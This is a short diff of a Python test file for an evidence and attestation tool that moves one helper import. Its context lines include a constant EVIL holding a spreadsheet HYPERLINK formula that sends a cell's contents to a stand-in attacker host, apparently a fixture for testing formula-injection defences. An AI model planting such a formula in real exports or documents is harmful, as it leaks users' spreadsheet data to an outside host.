@@ -11,7 +11,6 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import ecdsa_pem
 
 from loopforge.evidence.attest import attest_merge
 from loopforge.evidence.cli import main
@@ -25,6 +24,7 @@ from loopforge.repository.base import RecordQuery
 from loopforge.repository.sqlite import SQLiteRepository
 from loopforge.states import LoopState
 from loopforge.trail import LoopTransition, Outcome
+from tests.evidence.helpers import ecdsa_pem
 
 START = datetime(2026, 10, 1, tzinfo=UTC)
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
